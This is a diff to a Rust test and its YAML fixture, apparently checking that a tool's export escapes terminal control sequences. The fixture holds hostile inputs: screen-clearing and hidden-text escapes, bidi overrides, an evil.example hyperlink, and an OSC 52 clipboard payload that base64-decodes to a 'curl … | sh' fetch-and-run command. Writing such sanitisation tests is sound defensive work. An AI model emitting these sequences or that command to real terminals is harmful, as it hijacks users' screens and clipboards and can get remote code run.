@@ -195,6 +195,7 @@ marking: "\e[5mBLINK\e[0m"
 summary: "line\roverwrite \x08\x08 back \e[2J\e[H clear \u009b31m c1 \u202eevil\u202c \u2066iso\u2069"
 prepared_by: "\e[8mhidden"
 tags: ["\e[31mred"]
+"x-\e[31mdesk": {"\e]0;key\a": "\u202evalue", list: ["\e[2J", 1]}
 sources:
   - id: s
     title: "\e]8;;http://evil.example\e\\link\e]8;;\e\\"
@@ -208,6 +209,7 @@ actors:
     name: "Name\e[2K\r"
     role: "\e[?1049hrole"
     aliases: ["\u200falias"]
+    x-notes: ["\e[2Jclear", {"\u202ekey": "\a"}]
     summary: "\u009d0;title\u009c"
   - {id: b, name: "B\u2067ob", speaks_for: [a]}
 claims:
@@ -265,6 +267,7 @@ fn nothing_in_an_export_can_drive_a_terminal() {
     assert!(text.contains("Title ␛]0;pwned␇ change ␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇ clip"), "{text}");
     assert!(text.contains("[RLO]evil[PDF]"), "{text}");
     assert!(text.contains("[U+009B]31m"), "{text}");
+    assert!(text.contains("x-␛[31mdesk:\n  - ␛]0;key␇: [RLO]value\n  - list: ␛[2J, 1\n"), "{text}");
     let json = String::from_utf8(brief().arg("export").arg(&path).args(["--format", "json"]).output().unwrap().stdout)
         .unwrap();
     let value: serde_json::Value = serde_json::from_str(&json).unwrap();
